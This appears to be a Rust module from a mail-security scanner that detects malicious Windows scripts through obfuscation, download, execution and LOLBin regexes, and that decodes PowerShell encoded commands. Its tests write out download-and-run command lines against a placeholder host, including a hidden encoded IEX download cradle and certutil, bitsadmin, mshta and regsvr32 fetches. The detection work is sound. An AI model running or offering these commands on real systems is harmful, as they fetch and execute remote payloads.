//! Scripts read, never run: JScript, VBScript, PowerShell, batch, HTA and WSF. What gives a
//! dropper away is the same in every language: text built so it cannot be read (long
//! base64/hex blobs, character codes, strings cut into pieces, eval chains), and what it does
//! (download, run, living-off-the-land tools). PowerShell's `-EncodedCommand` and long base64
//! literals are decoded and analysed again, one level deeper.

use std::sync::OnceLock;

use base64::Engine as _;
use mailmoat_core::Location;
use regex::Regex;

use crate::filetype::{self, Kind, Lang};
use crate::walk::Walk;

/// Text analysed per script at most (regexes are linear, but a 64 MiB "script" is not one).
const MAX_SCRIPT_BYTES: usize = 4 << 20;
/// Decoded commands and blobs analysed per script at most.
const MAX_DECODED: usize = 8;

struct Patterns {
    base64_blob: Regex,
    hex_blob: Regex,
    char_codes: Regex,
    split_strings: Regex,
    eval: Regex,
    ps_obfuscation: Regex,
    download: Regex,
    save: Regex,
    url: Regex,
    execute: Regex,
    /// `.Run(`/`.Exec(`: a shell's only with a COM object in the script (JavaScript's
    /// `regex.exec(…)` and frameworks' `app.run(…)` are everywhere).
    com_run: Regex,
    com_object: Regex,
    lolbin: Regex,
    encoded_command: Regex,
}

fn patterns() -> &'static Patterns {
    static P: OnceLock<Patterns> = OnceLock::new();
    P.get_or_init(|| {
        let re = |s: &str| Regex::new(s).expect("script pattern compiles");
        Patterns {
            base64_blob: re(r"[A-Za-z0-9+/]{200,}={0,2}"),
            hex_blob: re(r"(?i)(?:[0-9a-f]{2}){100,}"),
            char_codes: re(r"(?i)fromCharCode|\bChrW?\s*\(|\[char\]\s*\d|\bChrB\s*\("),
            split_strings: re(r#"["']\s*(?:\+|&)\s*["']"#),
            eval: re(r"(?i)\beval\s*\(|\bExecute(?:Global)?\b|\bInvoke-Expression\b|\biex\b|new\s+Function\s*\(|\.Eval\s*\(|setTimeout\s*\(\s*[a-z_]"),
            ps_obfuscation: re(r"(?i)\w`\w|-join\s*\(|\[string\]::join|-bxor|\[char\[\]\]|FromBase64String|\[array\]::Reverse|-replace\s*'.',''"),
            download: re(r#"(?i)XMLHTTP|WinHttp\.?WinHttpRequest|Net\.WebClient|DownloadFile|DownloadString|DownloadData|Invoke-WebRequest|Invoke-RestMethod|\biwr\b|Start-BitsTransfer|\bwget\s+https?:|\bcurl(?:\.exe)?\s+(?:-\w+\s+)*https?:|URLDownloadToFile|Msxml2\.|InternetExplorer\.Application|\.open\s*\(\s*["'](?:GET|POST)["']|\.responseBody\b"#),
            save: re(r"(?i)ADODB\.Stream|SaveToFile|\.Write\s*\(|OutFile|Set-Content|WriteAllBytes|CreateTextFile|responseBody"),
            url: re(r#"(?i)\bhttps?://[^\s"'<>)\]]{3,200}"#),
            execute: re(r#"(?i)WScript\.Shell|Shell\.Application|ShellExecute|Start-Process|Invoke-Item|\bstart\s+""|cmd(?:\.exe)?\s+/[ck]\b|Win32_Process|ActiveXObject\s*\(\s*["']WScript"#),
            com_run: re(r#"(?i)\.(?:Run|Exec)\s*\("#),
            com_object: re(r#"(?i)CreateObject|ActiveXObject|GetObject\s*\("#),
            lolbin: re(r"(?i)\bcertutil(?:\.exe)?\b[^\n]{0,80}-(?:urlcache|decode|decodehex|split|f\b)|\bbitsadmin(?:\.exe)?\b[^\n]{0,40}/(?:transfer|addfile|create)|\bmshta(?:\.exe)?\s+[^\n]{0,10}(?:https?:|javascript:|vbscript:)|\bregsvr32(?:\.exe)?\b[^\n]{0,60}/i:\s*https?|\brundll32(?:\.exe)?\b[^\n]{0,60}(?:javascript:|url\.dll|shell32\.dll,\s*ShellExec_RunDLL)|\bmsiexec(?:\.exe)?\b[^\n]{0,30}https?:|\bwmic(?:\.exe)?\b[^\n]{0,60}(?:process\s+call\s+create|/format:\s*[^\n]{0,10}https?)|\bforfiles(?:\.exe)?\b[^\n]{0,60}/c\b|\b(?:InstallUtil|MSBuild|cmstp|odbcconf|regasm|regsvcs|esentutl|extrac32|hh)\.exe\b"),
            encoded_command: re(r"(?i)(?:powershell|pwsh)(?:\.exe)?[^\n]*?\s[-/]e(?:n|nc|nco|ncod|ncode|ncoded|ncodedc|ncodedco|ncodedcom|ncodedcomm|ncodedcomma|ncodedcomman|ncodedcommand|c)?\s+([A-Za-z0-9+/=]{16,})"),
        }
    })
}

/// Script bytes as text: UTF-16 (with a BOM, or PowerShell's usual no-BOM little-endian),
/// else UTF-8, else Latin-1.
pub fn text(data: &[u8]) -> String {
    let utf16 = |bytes: &[u8], le: bool| {
        let units: Vec<u16> = bytes
            .chunks_exact(2)
            .map(|c| {
                if le {
                    u16::from_le_bytes([c[0], c[1]])
                } else {
                    u16::from_be_bytes([c[0], c[1]])
                }
            })
            .collect();
        String::from_utf16_lossy(&units)
    };
    if let Some(rest) = data.strip_prefix(b"\xff\xfe") {
        return utf16(rest, true);
    }
    if let Some(rest) = data.strip_prefix(b"\xfe\xff") {
        return utf16(rest, false);
    }
    let head = &data[..data.len().min(64)];
    if head.len() >= 8 && head.iter().skip(1).step_by(2).all(|b| *b == 0) {
        return utf16(data, true);
    }
    match std::str::from_utf8(data.strip_prefix(b"\xef\xbb\xbf").unwrap_or(data)) {
        Ok(s) => s.to_string(),
        Err(_) => data.iter().map(|&b| b as char).collect(),
    }
}

fn base64_decode(s: &str) -> Option<Vec<u8>> {
    let bare = s.trim_end_matches('=');
    let padded = format!("{bare}{}", "=".repeat((4 - bare.len() % 4) % 4));
    base64::engine::general_purpose::STANDARD
        .decode(padded)
        .ok()
}

fn short(s: &str, n: usize) -> String {
    if s.chars().count() <= n {
        s.to_string()
    } else {
        format!("{}…", s.chars().take(n).collect::<String>())
    }
}

/// What a script shows, as evidence-ready lines; pure, for the LNK and MSI readers too.
#[derive(Debug, Default)]
pub struct ScriptSigns {
    pub obfuscation: Vec<String>,
    pub downloads: Vec<String>,
    pub executes: Vec<String>,
    pub lolbins: Vec<String>,
    /// Decoded `-EncodedCommand` payloads (PowerShell source).
    pub encoded_commands: Vec<String>,
    /// Long base64 literals, decoded.
    pub blobs: Vec<Vec<u8>>,
    pub urls: Vec<String>,
}

pub fn signs(text: &str) -> ScriptSigns {
    let p = patterns();
    let mut s = ScriptSigns::default();
    if text.contains("#@~^") {
        s.obfuscation
            .push("encoded with Microsoft Script Encoder (#@~^)".into());
    }
    let blobs: Vec<&str> = p.base64_blob.find_iter(text).map(|m| m.as_str()).collect();
    if let Some(longest) = blobs.iter().map(|b| b.len()).max() {
        s.obfuscation.push(format!(
            "{} base64 blob(s), the longest {longest} characters",
            blobs.len()
        ));
    }
    let hex = p.hex_blob.find_iter(text).count();
    if hex > 0 {
        s.obfuscation.push(format!("{hex} long hex blob(s)"));
    }
    let codes = p.char_codes.find_iter(text).count();
    let numbers_in_codes = text.matches(',').count();
    if codes >= 10 || (codes >= 1 && numbers_in_codes >= 40 && text.contains("fromCharCode")) {
        s.obfuscation.push(format!(
            "strings built from character codes ({codes} calls)"
        ));
    }
    let splits = p.split_strings.find_iter(text).count();
    if splits >= 15 {
        s.obfuscation
            .push(format!("strings cut into pieces ({splits} joins)"));
    }
    // PowerShell's backtick and cmd's caret escape letters that need no escaping
    // (I`E`X, p^o^w^e^r^s^h^e^l^l): behaviours are matched with them removed.
    let plain = text.replace(['`', '^'], "");
    let evals: Vec<&str> = p.eval.find_iter(&plain).map(|m| m.as_str()).collect();
    if !evals.is_empty() && (evals.len() >= 2 || !s.obfuscation.is_empty()) {
        s.obfuscation.push(format!(
            "dynamic code execution ({})",
            short(&evals.join(", "), 60)
        ));
    }
    let ps: Vec<&str> = p
        .ps_obfuscation
        .find_iter(text)
        .map(|m| m.as_str())
        .collect();
    if ps.len() >= 2 {
        s.obfuscation.push(format!(
            "PowerShell obfuscation ({})",
            short(&ps.join(" "), 60)
        ));
    }
    if text.len() >= 2048 {
        let h = crate::pe::entropy(text.as_bytes());
        if h > 5.6 {
            s.obfuscation
                .push(format!("high entropy for a script ({h:.2} bits/byte)"));
        }
    }
    s.urls = p
        .url
        .find_iter(text)
        .map(|m| m.as_str().to_string())
        .take(20)
        .collect();
    let downloads: Vec<&str> = p.download.find_iter(&plain).map(|m| m.as_str()).collect();
    let saves = p.save.is_match(&plain);
    // Fetched and then saved, run (iex), or aimed at a visible URL.
    if !downloads.is_empty()
        && (saves || !s.urls.is_empty() || !blobs.is_empty() || !evals.is_empty())
    {
        let mut d = downloads.clone();
        d.dedup();
        s.downloads.push(short(&d.join(", "), 100));
    }
    let mut executes: Vec<&str> = p.execute.find_iter(&plain).map(|m| m.as_str()).collect();
    if p.com_object.is_match(&plain) {
        executes.extend(p.com_run.find_iter(&plain).map(|m| m.as_str()));
    }
    executes.sort_unstable();
    executes.dedup();
    if !executes.is_empty() {
        s.executes.push(short(&executes.join(", "), 100));
    }
    s.lolbins = p
        .lolbin
        .find_iter(&plain)
        .map(|m| short(m.as_str(), 80))
        .take(5)
        .collect();
    let mut encoded = Vec::new();
    for c in p.encoded_command.captures_iter(&plain).take(MAX_DECODED) {
        let b64 = c.get(1).map_or("", |m| m.as_str());
        encoded.push(b64.trim_end_matches('='));
        if let Some(raw) = base64_decode(b64) {
            // PowerShell encodes the command as UTF-16LE.
            let decoded = if raw.len() >= 2 && raw.iter().skip(1).step_by(2).all(|b| *b == 0) {
                let units: Vec<u16> = raw
                    .chunks_exact(2)
                    .map(|c| u16::from_le_bytes([c[0], c[1]]))
                    .collect();
                String::from_utf16_lossy(&units)
            } else {
                String::from_utf8_lossy(&raw).into_owned()
            };
            s.encoded_commands.push(decoded);
        }
    }
    for blob in blobs.iter().take(MAX_DECODED) {
        if encoded.contains(&blob.trim_end_matches('=')) {
            continue;
        }
        if let Some(raw) = base64_decode(blob) {
            s.blobs.push(raw);
        }
    }
    s
}

impl Walk<'_> {
    pub(crate) fn script(
        &mut self,
        lang: Lang,
        location: &Location,
        name: &str,
        data: &[u8],
        depth: usize,
    ) {
        let data = if data.len() > MAX_SCRIPT_BYTES {
            self.add(
                "ANALYZER_LIMIT",
                format!(
                    "{name}: only the first {} MiB of the script were read",
                    MAX_SCRIPT_BYTES >> 20
                ),
                location,
            );
            &data[..MAX_SCRIPT_BYTES]
        } else {
            data
        };
        let text = text(data);
        self.script_text(lang, location, name, &text, depth);
    }

    /// Analyses script text (a file, a shortcut's command line, an installer's custom action).
    pub(crate) fn script_text(
        &mut self,
        lang: Lang,
        location: &Location,
        name: &str,
        text: &str,
        depth: usize,
    ) {
        let signs = signs(text);
        let what = format!(
            "{name} ({} {})",
            lang.name(),
            if depth > 0 { "inside" } else { "script" }
        );
        if !signs.obfuscation.is_empty() {
            self.add(
                "SCRIPT_OBFUSCATED",
                format!("{what} is obfuscated: {}", signs.obfuscation.join("; ")),
                location,
            );
        }
        if !signs.downloads.is_empty() {
            let urls = if signs.urls.is_empty() {
                String::new()
            } else {
                format!(" from {}", short(&signs.urls.join(", "), 200))
            };
            self.add(
                "SCRIPT_DOWNLOADER",
                format!("{what} downloads{urls} ({})", signs.downloads.join("; ")),
                location,
            );
        }
        if !signs.executes.is_empty() {
            self.add(
                "SCRIPT_EXECUTES",
                format!("{what} starts programs: {}", signs.executes.join("; ")),
                location,
            );
        }
        if !signs.lolbins.is_empty() {
            self.add(
                "SCRIPT_LOLBIN",
                format!(
                    "{what} misuses Windows tools: {}",
                    signs.lolbins.join(" | ")
                ),
                location,
            );
        }
        if depth >= self.config.max_depth {
            return;
        }
        for command in &signs.encoded_commands {
            let at = location.child("-EncodedCommand");
            self.add(
                "SCRIPT_ENCODED_COMMAND",
                format!(
                    "{what} runs PowerShell with an encoded command; decoded: {}",
                    short(command, 200)
                ),
                &at,
            );
            self.script_text(Lang::PowerShell, &at, "encoded command", command, depth + 1);
        }
        for (i, blob) in signs.blobs.iter().enumerate() {
            let at = location.child(format!("base64 blob {}", i + 1));
            match filetype::kind("", blob) {
                Kind::Other => {
                    let decoded = self::text(blob);
                    if decoded
                        .chars()
                        .take(512)
                        .all(|c| !c.is_control() || c.is_whitespace())
                    {
                        self.script_text(lang, &at, "decoded blob", &decoded, depth + 1);
                    }
                }
                _ => self.object(&at, &format!("base64 blob {}", i + 1), blob, depth + 1),
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn encoded_command_is_decoded() {
        // "IEX (New-Object Net.WebClient).DownloadString('http://x.invalid/a')" in UTF-16LE.
        let cmd = "IEX (New-Object Net.WebClient).DownloadString('http://x.invalid/a')";
        let utf16: Vec<u8> = cmd.encode_utf16().flat_map(|u| u.to_le_bytes()).collect();
        let b64 = base64::engine::general_purpose::STANDARD.encode(utf16);
        let s = signs(&format!("powershell.exe -NoP -W Hidden -enc {b64}"));
        assert_eq!(s.encoded_commands, vec![cmd.to_string()]);
        let inner = signs(cmd);
        assert!(!inner.downloads.is_empty(), "{inner:?}");
    }

    #[test]
    fn plain_scripts_are_quiet() {
        let s = signs(
            "var total = 0;\nfor (var i = 0; i < 10; i++) { total += i; }\nWScript.Echo(total);\n",
        );
        assert!(
            s.obfuscation.is_empty() && s.downloads.is_empty() && s.lolbins.is_empty(),
            "{s:?}"
        );
    }

    #[test]
    fn javascript_exec_and_run_are_not_a_shell() {
        let s = signs("var m = /(\\d+)/.exec(text); app.run(config); router.run();");
        assert!(s.executes.is_empty(), "{s:?}");
        let s = signs("var o = new ActiveXObject('Sh'+'ell.App'); o.Run('calc');");
        assert!(!s.executes.is_empty(), "{s:?}");
    }

    #[test]
    fn lolbins() {
        for line in [
            "certutil -urlcache -split -f http://x.invalid/a.exe a.exe",
            "bitsadmin /transfer job http://x.invalid/a a",
            "mshta http://x.invalid/a.hta",
            "regsvr32 /s /n /u /i:http://x.invalid/a.sct scrobj.dll",
        ] {
            assert!(!signs(line).lolbins.is_empty(), "{line}");
        }
    }
}
